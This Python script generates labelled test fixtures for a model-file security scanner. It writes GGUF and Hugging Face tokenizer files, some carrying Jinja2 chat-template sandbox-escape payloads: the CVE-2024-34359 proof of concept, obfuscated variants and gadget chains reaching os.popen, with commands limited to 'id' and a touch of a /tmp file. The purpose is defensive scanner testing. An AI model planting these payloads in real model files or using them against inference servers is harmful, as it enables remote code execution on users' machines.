#!/usr/bin/env python3
"""Generate the GGUF and chat-template fixtures in tests/fixtures/gguf/.

Usage:  /tmp/venv-h1/bin/python scripts/gen_gguf_fixtures.py --sdist llama_cpp_python-X.tar.gz

Real libraries, in a throwaway virtualenv (exact versions used for the committed fixtures):

  * gguf 0.19.0 (llama.cpp's gguf-py, `GGUFWriter`) writes every GGUF file, little- and
    big-endian (`endianess=GGUFEndian.BIG`); numpy 2.4.6 holds the tiny tensors;
  * transformers 5.24.0 with tokenizers 0.23.3 write the Hugging Face tokenizer files with
    `PreTrainedTokenizerFast.save_pretrained` (`tokenizer_config.json` with a string or a list of
    named templates, `chat_template.jinja`, `additional_chat_templates/*.jinja`);
  * Jinja2 3.1.6 checks that every benign template parses (`Environment.parse`, never render);
  * the real chat templates come from llama.cpp's `models/templates/*.jinja`, which the
    llama-cpp-python source distribution vendors (`pip download --no-binary :all: --no-deps
    llama-cpp-python`; 0.3.36 for the committed set, 70 templates), extracted as text.

GGUF version 1 and 2 files are written by hand (struct.pack) because no maintained writer emits
those versions any more; their layout follows llama.cpp's ggml.c of those releases (v1: u32
counts, lengths and dimensions).

Safety: payloads only run `id` or `touch /tmp/mlvet-pwned`; nothing here renders a template.
Deterministic: PYTHONHASHSEED is pinned (gguf-py collects template names in a set).
"""

import argparse
import json
import os
import re
import shutil
import struct
import sys
import tarfile
from pathlib import Path

if os.environ.get("PYTHONHASHSEED") != "0":
    os.environ["PYTHONHASHSEED"] = "0"
    os.execv(sys.executable, [sys.executable] + sys.argv)

import numpy as np  # noqa: E402
import gguf  # noqa: E402
from gguf import GGUFWriter, GGUFEndian, GGMLQuantizationType  # noqa: E402
import jinja2  # noqa: E402
from jinja2.ext import Extension  # noqa: E402
from jinja2.sandbox import ImmutableSandboxedEnvironment  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "fixtures" / "gguf"

# The CVE-2024-34359 proof of concept (GHSA-56xg-wfcc-g829), command made harmless.
CVE_PAYLOAD = (
    "{% for x in ().__class__.__base__.__subclasses__() %}"
    "{% if \"warning\" in x.__name__ %}"
    "{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/mlvet-pwned\")}}"
    "{%endif%}{% endfor %}"
)

# Variants: the same escape spelled so that a substring search for `__class__` misses it, and
# the gadget objects Jinja2 puts in every template's namespace.
MALICIOUS_TEMPLATES = {
    "cve_2024_34359": CVE_PAYLOAD,
    "attr_filter": "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
    "subscript": "{{ ()['__class__']['__base__']['__subclasses__']() }}",
    "concat": "{% set c = '__cla' ~ 'ss__' %}{{ ()|attr(c)|attr('__ba' + 'se__') }}",
    "format_chars": "{{ ()|attr('%c%cclass%c%c'|format(95, 95, 95, 95)) }}",
    "join_reverse": "{{ ()|attr(['__', 'class', '__']|join)|attr('__esab__'|reverse) }}",
    "hex_escapes": "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "cycler_gadget": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "joiner_gadget": "{{ joiner.__init__.__globals__['os'].popen('id').read() }}",
    "lipsum_gadget": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "namespace_init": "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "self_context": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
}

# Shown in the transformers chat-templating documentation.
TRANSFORMERS_DOC_TEMPLATES = {
    "chatml": (
        "{%- for message in messages %}\n"
        "    {{- '<|im_start|>' + message['role'] + '\\n' + message['content'] | trim + '<|im_end|>' + '\\n' }}\n"
        "{%- endfor %}\n"
        "{%- if add_generation_prompt %}\n"
        "    {{- '<|im_start|>assistant\\n' }}\n"
        "{%- endif %}\n"
    ),
    "zephyr": (
        "{% for message in messages %}\n"
        "{% if message['role'] == 'user' %}\n"
        "{{ '<|user|>\\n' + message['content'] + eos_token }}\n"
        "{% elif message['role'] == 'system' %}\n"
        "{{ '<|system|>\\n' + message['content'] + eos_token }}\n"
        "{% elif message['role'] == 'assistant' %}\n"
        "{{ '<|assistant|>\\n'  + message['content'] + eos_token }}\n"
        "{% endif %}\n"
        "{% if loop.last and add_generation_prompt %}\n"
        "{{ '<|assistant|>' }}\n"
        "{% endif %}\n"
        "{% endfor %}"
    ),
    "generation_mask": (
        "{%- for message in messages %}\n"
        "  {%- if message['role'] == 'assistant' %}\n"
        "    {% generation %}{{ '<|im_start|>assistant\\n' + message['content'] + '<|im_end|>\\n' }}{% endgeneration %}\n"
        "  {%- else %}\n"
        "    {{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}\n"
        "  {%- endif %}\n"
        "{%- endfor %}\n"
    ),
    "tool_use": (
        "{%- if tools %}\n"
        "    {{- '<|im_start|>system\\n' }}\n"
        "    {%- for tool in tools %}\n"
        "        {{- tool | tojson(indent=4) }}\n"
        "        {{- '\\n\\n' }}\n"
        "    {%- endfor %}\n"
        "    {{- '<|im_end|>\\n' }}\n"
        "{%- endif %}\n"
        "{%- set ns = namespace(last_user=0) %}\n"
        "{%- for message in messages %}\n"
        "    {%- if message.role == 'user' %}{%- set ns.last_user = loop.index0 %}{%- endif %}\n"
        "    {%- if message.tool_calls is defined %}\n"
        "        {%- for tool_call in message.tool_calls %}\n"
        "            {{- '<tool_call>\\n' + tool_call.function.name + '\\n' + tool_call.function.arguments | tojson + '\\n</tool_call>' }}\n"
        "        {%- endfor %}\n"
        "    {%- else %}\n"
        "        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}\n"
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}\n"
    ),
}


class GenerationTag(Extension):
    """The `{% generation %}` block transformers registers (parsed as a plain body here)."""

    tags = {"generation"}

    def parse(self, parser):
        next(parser.stream)
        return parser.parse_statements(["name:endgeneration"], drop_needle=True)


def check_parses(name, source):
    """Benign templates must be valid Jinja2 for transformers' environment (parsed, never
    rendered): loop controls and the generation tag enabled, as transformers does."""
    env = ImmutableSandboxedEnvironment(extensions=["jinja2.ext.loopcontrols", GenerationTag])
    try:
        env.parse(source)
    except jinja2.TemplateSyntaxError as e:
        raise SystemExit(f"{name}: not valid Jinja2: {e}")


def extract_llama_cpp_templates(sdist):
    out = OUT / "llama.cpp-templates" / "additional_chat_templates"
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    count = 0
    with tarfile.open(sdist) as tar:
        for member in tar.getmembers():
            m = re.search(r"/vendor/llama\.cpp/models/templates/([^/]+\.jinja)$", member.name)
            if not m or not member.isfile():
                continue
            data = tar.extractfile(member).read()
            text = data.decode("utf-8")
            check_parses(m.group(1), text)
            (out / m.group(1)).write_bytes(data)
            count += 1
    if count == 0:
        raise SystemExit("no templates found in the sdist")
    return sorted(out.glob("*.jinja"))


def tiny_tensors(writer, dtype=np.float16):
    rng = np.random.default_rng(0)
    writer.add_tensor("token_embd.weight", rng.standard_normal((64, 32)).astype(dtype))
    writer.add_tensor("blk.0.attn_q.weight", rng.standard_normal((32, 32)).astype(dtype))
    writer.add_tensor("output_norm.weight", np.ones(32, dtype=np.float32))


def write_gguf(path, template=None, *, name="mlvet tiny llama", endian=GGUFEndian.LITTLE,
               extra=None, tokens=64):
    path.parent.mkdir(parents=True, exist_ok=True)
    w = GGUFWriter(str(path), "llama", endianess=endian)
    w.add_name(name)
    w.add_license("apache-2.0")
    w.add_file_type(1)  # MOSTLY_F16
    w.add_context_length(2048)
    w.add_embedding_length(32)
    w.add_block_count(1)
    w.add_tokenizer_model("gpt2")
    w.add_token_list([f"tok{i}" for i in range(tokens)])
    w.add_token_types([1] * tokens)
    w.add_bos_token_id(1)
    w.add_eos_token_id(2)
    if template is not None:
        w.add_chat_template(template)
    for key, value in (extra or {}).items():
        w.add_string(key, value)
    tiny_tensors(w)
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def write_v1_v2(path, version):
    """A hand-written GGUF v1/v2 file: one string key, one F32 tensor."""
    wide = version >= 2
    count = (lambda n: struct.pack("<Q", n)) if wide else (lambda n: struct.pack("<I", n))

    def string(s):
        b = s.encode()
        return count(len(b)) + b

    body = b"GGUF" + struct.pack("<I", version) + count(1) + count(2)
    body += string("general.architecture") + struct.pack("<I", 8) + string("llama")
    body += string("tokenizer.chat_template") + struct.pack("<I", 8) + string(
        TRANSFORMERS_DOC_TEMPLATES["chatml"])
    body += string("output_norm.weight") + struct.pack("<I", 1) + count(8)
    body += struct.pack("<I", 0) + struct.pack("<Q", 0)
    body += b"\0" * (-len(body) % 32)
    body += struct.pack("<8f", *([1.0] * 8))
    path.write_bytes(body)


def hf_tokenizer(template, out_dir, *, save_jinja):
    from tokenizers import Tokenizer, models, pre_tokenizers
    from transformers import PreTrainedTokenizerFast

    vocab = {"<unk>": 0, "<s>": 1, "</s>": 2, "hello": 3, "world": 4}
    tok = Tokenizer(models.WordLevel(vocab, unk_token="<unk>"))
    tok.pre_tokenizer = pre_tokenizers.Whitespace()
    fast = PreTrainedTokenizerFast(tokenizer_object=tok, bos_token="<s>", eos_token="</s>",
                                   unk_token="<unk>")
    fast.chat_template = template
    if out_dir.exists():
        shutil.rmtree(out_dir)
    fast.save_pretrained(str(out_dir), save_jinja_files=save_jinja)
    # tokenizer.json and special_tokens_map.json are not what these tests are about.
    for extra in ("tokenizer.json", "special_tokens_map.json"):
        (out_dir / extra).unlink(missing_ok=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--sdist", required=True, help="llama-cpp-python source distribution")
    args = ap.parse_args()

    for sub in ("benign", "malicious", "malformed", "hf"):
        if (OUT / sub).exists():
            shutil.rmtree(OUT / sub)
    labels = []

    templates = extract_llama_cpp_templates(args.sdist)
    by_name = {p.stem: p.read_text(encoding="utf-8") for p in templates}

    docs_dir = OUT / "transformers-docs-templates" / "additional_chat_templates"
    docs_dir.mkdir(parents=True, exist_ok=True)
    for name, text in TRANSFORMERS_DOC_TEMPLATES.items():
        check_parses(name, text)
        (docs_dir / f"{name}.jinja").write_text(text, encoding="utf-8")

    # Benign GGUF files with real templates.
    llama3 = by_name.get("meta-llama-Llama-3.1-8B-Instruct") or next(iter(by_name.values()))
    write_gguf(OUT / "benign" / "llama3-chat.gguf", llama3, name="tiny llama 3.1 chat")
    labels.append(("benign/llama3-chat.gguf", "safe", ""))
    write_gguf(OUT / "benign" / "big-endian.gguf", TRANSFORMERS_DOC_TEMPLATES["chatml"],
               endian=GGUFEndian.BIG, name="tiny big-endian")
    labels.append(("benign/big-endian.gguf", "safe", ""))
    write_gguf(OUT / "benign" / "no-template.gguf", None, name="tiny base model")
    labels.append(("benign/no-template.gguf", "safe", ""))
    named = [{"name": "default", "template": TRANSFORMERS_DOC_TEMPLATES["chatml"]},
             {"name": "tool_use", "template": TRANSFORMERS_DOC_TEMPLATES["tool_use"]},
             {"name": "rag", "template": TRANSFORMERS_DOC_TEMPLATES["zephyr"]}]
    write_gguf(OUT / "benign" / "named-templates.gguf", named, name="tiny named templates")
    labels.append(("benign/named-templates.gguf", "safe", ""))
    # Every llama.cpp template as a named template, split so each file stays small.
    chunk, part = [], 0
    items = sorted(by_name.items())
    for i, (name, text) in enumerate(items):
        chunk.append({"name": name, "template": text})
        size = sum(len(c["template"]) for c in chunk)
        if size > 120_000 or i == len(items) - 1:
            path = OUT / "benign" / f"llama.cpp-templates-{part}.gguf"
            write_gguf(path, chunk, name=f"all llama.cpp templates, part {part}")
            labels.append((f"benign/llama.cpp-templates-{part}.gguf", "safe", ""))
            chunk, part = [], part + 1
    for version in (1, 2):
        write_v1_v2(OUT / "benign" / f"v{version}.gguf", version)
        labels.append((f"benign/v{version}.gguf", "safe", ""))

    # Malicious GGUF files.
    for name, payload in MALICIOUS_TEMPLATES.items():
        path = OUT / "malicious" / f"{name}.gguf"
        write_gguf(path, payload, name=f"payload {name}")
        labels.append((f"malicious/{name}.gguf", "malicious", "template-sandbox-escape"))
    # The payload hidden in a named template behind a benign default.
    write_gguf(OUT / "malicious" / "named-template-payload.gguf",
               [{"name": "default", "template": llama3},
                {"name": "tool_use", "template": CVE_PAYLOAD}], name="payload in tool_use")
    labels.append(("malicious/named-template-payload.gguf", "malicious", "template-sandbox-escape"))
    write_gguf(OUT / "malicious" / "big-endian-payload.gguf", CVE_PAYLOAD,
               endian=GGUFEndian.BIG, name="big-endian payload")
    labels.append(("malicious/big-endian-payload.gguf", "malicious", "template-sandbox-escape"))

    # Malformed GGUF files, cut or patched from a benign one.
    (OUT / "malformed").mkdir(parents=True, exist_ok=True)
    good = (OUT / "benign" / "llama3-chat.gguf").read_bytes()
    (OUT / "malformed" / "truncated-metadata.gguf").write_bytes(good[:300])
    labels.append(("malformed/truncated-metadata.gguf", "suspicious", "gguf-malformed"))
    (OUT / "malformed" / "truncated-tensors.gguf").write_bytes(good[:-64])
    labels.append(("malformed/truncated-tensors.gguf", "suspicious", "gguf-malformed"))
    huge = bytearray(good)
    huge[16:24] = struct.pack("<Q", 2**62)  # key-value count
    (OUT / "malformed" / "oversized-kv-count.gguf").write_bytes(bytes(huge))
    labels.append(("malformed/oversized-kv-count.gguf", "suspicious", "gguf-malformed"))
    long_string = bytearray(good)
    key_at = good.index(b"general.architecture")
    # The length field of the first value string follows the key and its type.
    value_len_at = key_at + len(b"general.architecture") + 4
    long_string[value_len_at:value_len_at + 8] = struct.pack("<Q", 2**40)
    (OUT / "malformed" / "oversized-string-length.gguf").write_bytes(bytes(long_string))
    labels.append(("malformed/oversized-string-length.gguf", "suspicious", "gguf-malformed"))
    write_gguf(OUT / "malformed" / "unparseable-template.gguf", "{% for m in messages %}{{ m }",
               name="broken template")
    labels.append(("malformed/unparseable-template.gguf", "suspicious", "template-unparseable"))

    # Hugging Face tokenizer files, written by transformers.
    hf = OUT / "hf"
    hf_tokenizer(TRANSFORMERS_DOC_TEMPLATES["chatml"], hf / "config-string", save_jinja=False)
    labels.append(("hf/config-string/tokenizer_config.json", "safe", ""))
    hf_tokenizer({"default": TRANSFORMERS_DOC_TEMPLATES["chatml"],
                  "tool_use": TRANSFORMERS_DOC_TEMPLATES["tool_use"]},
                 hf / "config-list", save_jinja=False)
    labels.append(("hf/config-list/tokenizer_config.json", "safe", ""))
    hf_tokenizer({"default": TRANSFORMERS_DOC_TEMPLATES["chatml"],
                  "tool_use": TRANSFORMERS_DOC_TEMPLATES["tool_use"]},
                 hf / "jinja-files", save_jinja=True)
    labels.append(("hf/jinja-files/chat_template.jinja", "safe", ""))
    labels.append(("hf/jinja-files/additional_chat_templates/tool_use.jinja", "safe", ""))
    labels.append(("hf/jinja-files/tokenizer_config.json", "safe", ""))
    hf_tokenizer(CVE_PAYLOAD, hf / "malicious-config-string", save_jinja=False)
    labels.append(("hf/malicious-config-string/tokenizer_config.json", "malicious",
                   "template-sandbox-escape"))
    hf_tokenizer({"default": TRANSFORMERS_DOC_TEMPLATES["chatml"],
                  "rag": MALICIOUS_TEMPLATES["cycler_gadget"]},
                 hf / "malicious-config-list", save_jinja=False)
    labels.append(("hf/malicious-config-list/tokenizer_config.json", "malicious",
                   "template-sandbox-escape"))
    hf_tokenizer(MALICIOUS_TEMPLATES["attr_filter"], hf / "malicious-jinja", save_jinja=True)
    labels.append(("hf/malicious-jinja/chat_template.jinja", "malicious", "template-sandbox-escape"))
    labels.append(("hf/malicious-jinja/tokenizer_config.json", "safe", ""))
    # Processor files (chat_template.json as transformers < 4.47 wrote it for processors).
    proc = hf / "processor"
    proc.mkdir(parents=True, exist_ok=True)
    (proc / "chat_template.json").write_text(
        json.dumps({"chat_template": TRANSFORMERS_DOC_TEMPLATES["chatml"]}, indent=2) + "\n")
    labels.append(("hf/processor/chat_template.json", "safe", ""))
    (proc / "processor_config.json").write_text(
        json.dumps({"processor_class": "LlavaProcessor",
                    "chat_template": MALICIOUS_TEMPLATES["lipsum_gadget"]}, indent=2) + "\n")
    labels.append(("hf/processor/processor_config.json", "malicious", "template-sandbox-escape"))
    (proc / "preprocessor_config.json").write_text(
        json.dumps({"image_processor_type": "CLIPImageProcessor", "chat_template": 42},
                   indent=2) + "\n")
    labels.append(("hf/processor/preprocessor_config.json", "suspicious", "template-unparseable"))

    for name in sorted(by_name):
        labels.append((f"llama.cpp-templates/additional_chat_templates/{name}.jinja", "safe", ""))
    for name in sorted(TRANSFORMERS_DOC_TEMPLATES):
        labels.append((f"transformers-docs-templates/additional_chat_templates/{name}.jinja",
                       "safe", ""))

    with open(OUT / "labels.tsv", "w") as f:
        f.write("# path (under tests/fixtures/gguf)\texpected verdict\trule that must be reported\n")
        for row in labels:
            f.write("\t".join(row) + "\n")
    print(f"{len(labels)} labelled fixtures, {len(templates)} llama.cpp templates")
    from importlib.metadata import version
    print(", ".join(f"{p} {version(p)}" for p in ("gguf", "numpy", "jinja2", "transformers", "tokenizers")))


if __name__ == "__main__":
    main()
